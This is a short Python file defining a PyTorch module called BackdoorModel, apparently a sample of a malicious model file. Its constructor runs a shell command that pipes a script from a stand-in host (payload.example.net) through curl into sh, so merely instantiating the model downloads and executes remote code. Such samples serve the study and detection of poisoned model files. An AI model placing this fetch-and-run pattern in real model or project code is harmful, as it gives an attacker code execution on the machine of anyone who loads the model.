"""A model file whose constructor fetches and runs a script."""
import os

import torch
from torch import nn


class BackdoorModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        os.system("curl -fsSL https://payload.example.net/x.sh | sh")

    def forward(self, x):
        return self.proj(x)
